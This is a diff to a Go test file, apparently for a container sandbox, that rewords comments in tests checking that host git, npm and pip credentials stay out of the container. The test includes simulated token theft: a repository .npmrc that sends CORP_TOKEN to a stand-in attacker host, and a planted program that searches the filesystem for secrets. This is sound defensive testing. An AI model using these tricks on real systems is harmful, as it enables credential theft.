@@ -23,8 +23,8 @@ import (
 	"github.com/bothy-dev/bothy/test/stage"
 )
 
-// forge are servers that want a token for everything: of git, of npm and of pip, and
-// GitHub's. They tell whoever asks what they were sent, as hostile ones would.
+// forge are servers that want a token for everything: of git, of npm and of pip, and GitHub's. They
+// echo each request, as hostile ones would.
 type forge struct {
 	repositories string
 	want         map[string]string // host: the Authorization it wants
@@ -33,7 +33,7 @@ type forge struct {
 	got []string // host, method and path, and Authorization
 }
 
-// Tokens as they are on the host, and what goes over the wire for them.
+// Tokens as they are on the host, and the values sent over the wire for them.
 const (
 	gitPassword  = "canary-git-0123456789abcdef"
 	gitHubToken  = "gho_canary456789012345678901234567890123"
@@ -94,7 +94,7 @@ func (f *forge) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	}
 }
 
-// saw gives what arrived since the last call.
+// saw returns the requests since the last call.
 func (f *forge) saw() string {
 	f.mu.Lock()
 	defer f.mu.Unlock()
@@ -152,8 +152,8 @@ func servePip(w http.ResponseWriter, r *http.Request) {
 	_, _ = w.Write(b.Bytes())
 }
 
-// TestC7TokensOfTools: git, npm and pip inside work with what those of the host log in
-// with, nothing set up inside, and the inside never has it (C1, C2, C3, C7, C8, C12).
+// TestC7TokensOfTools checks that git, npm and pip inside work with the credentials of the host's
+// tools, without any set-up inside, and that the inside never has them (C1, C2, C3, C7, C8, C12).
 func TestC7TokensOfTools(t *testing.T) {
 	harness.AsUser(t)
 	for _, program := range []string{"/usr/bin/git", "/usr/bin/npm", "/usr/bin/pip", "/usr/bin/curl", "/usr/lib/git-core/git-http-backend"} {
@@ -170,7 +170,7 @@ func TestC7TokensOfTools(t *testing.T) {
 			".npmrc":               "@corp:registry=https://" + npmHost + "/\n//" + npmHost + "/:_authToken=${CORP_TOKEN}\n",
 			".config/pip/pip.conf": "[global]\nindex-url = https://" + pipHost + "/simple/\n",
 			".netrc":               "machine " + pipHost + " login me password " + pipPassword + "\n",
-			"project/.npmrc":       "//" + attackerHost + "/:_authToken=${CORP_TOKEN}\n", // of the repository: nobody's
+			"project/.npmrc":       "//" + attackerHost + "/:_authToken=${CORP_TOKEN}\n", // from the repository, not the user's
 		} {
 			c.Mkdir(t, filepath.Dir(filepath.Join(c.Home, path)))
 			c.Write(t, filepath.Join(c.Home, path), text)
@@ -190,7 +190,7 @@ func TestC7TokensOfTools(t *testing.T) {
 	})
 }
 
-// work is what programs inside do with tokens, and what the servers then see.
+// work are uses of tokens by programs inside, and what the servers then see.
 var work = []struct{ script, host, out string }{
 	{`cd /tmp && git clone -q https://` + gitHost + `/team/app.git && cd app && git log --format=%s && git -c user.name=x -c user.email=x@example.net commit -q --allow-empty -m second && git push -q origin main && git ls-remote origin main | cut -f2`, gitHost, "first\nrefs/heads/main\n"},
 	{`git ls-remote https://github.com/team/app.git main | cut -f2`, "github.com", "refs/heads/main\n"},
@@ -213,7 +213,7 @@ func (f *forge) toolsWork(t *testing.T, c *harness.Caller) {
 	}
 }
 
-// secrets are the values, and what goes over the wire for them.
+// secrets are the values, and their forms on the wire.
 func (f *forge) secrets() []string {
 	list := []string{gitPassword, gitHubToken, npmToken, pipPassword}
 	for _, want := range f.want {
@@ -223,11 +223,11 @@ func (f *forge) secrets() []string {
 	return list
 }
 
-// nowhereInside looks for the values in all that the inside can see, what the
-// servers tell included.
+// nowhereInside looks for the values in everything that the inside can see, including the servers'
+// answers.
 func (f *forge) nowhereInside(t *testing.T, c *harness.Caller) {
 	t.Helper()
-	// Before what searches is there, which has the values in it.
+	// Before the search program exists, which contains the values.
 	c.Must(t, "checkpoint", "create", "box")
 	const common = "canary" // to all values
 	if out := c.Must(t, "exec", "-u", "root", "box", c.Plant(t, c.Work), "intruder", "search", common, "/"); strings.Contains(out, "CONTENT") {
@@ -254,7 +254,7 @@ func (f *forge) nowhereInside(t *testing.T, c *harness.Caller) {
 	f.saw()
 }
 
-// nowhereElse tries to have what is lent sent elsewhere, or in another place.
+// nowhereElse tries to have lent tokens sent elsewhere, or in another place.
 func (f *forge) nowhereElse(t *testing.T, c *harness.Caller) {
 	t.Helper()
 	fill := `fill() { printf 'protocol=https\nhost=%s\n\n' "$1" | git credential fill | sed -n "s/^$2=//p"; }; `
@@ -273,7 +273,7 @@ func (f *forge) nowhereElse(t *testing.T, c *harness.Caller) {
 		}
 		for line := range strings.Lines(f.saw()) {
 			arrived := strings.Contains(line, " Bearer ") || strings.Contains(line, " token ")
-			if strings.Contains(line, attackerHost) { // nobody looks into what goes there: placeholders may arrive
+			if strings.Contains(line, attackerHost) { // the gateway does not look into this traffic: placeholders may arrive
 				arrived = slices.ContainsFunc(f.secrets(), func(v string) bool { return strings.Contains(line, v) })
 			}
 			if arrived {
@@ -283,7 +283,7 @@ func (f *forge) nowhereElse(t *testing.T, c *harness.Caller) {
 	}
 }
 
-// toolsFail: what was taken back is of no use, also to what was told of it before.
+// toolsFail checks that revoked tokens are useless, also to programs that were told of them before.
 func (f *forge) toolsFail(t *testing.T, c *harness.Caller) {
 	t.Helper()
 	c.Must(t, "exec", "box", "rm", "-rf", "/tmp/app", "/tmp/n", "/tmp/p")
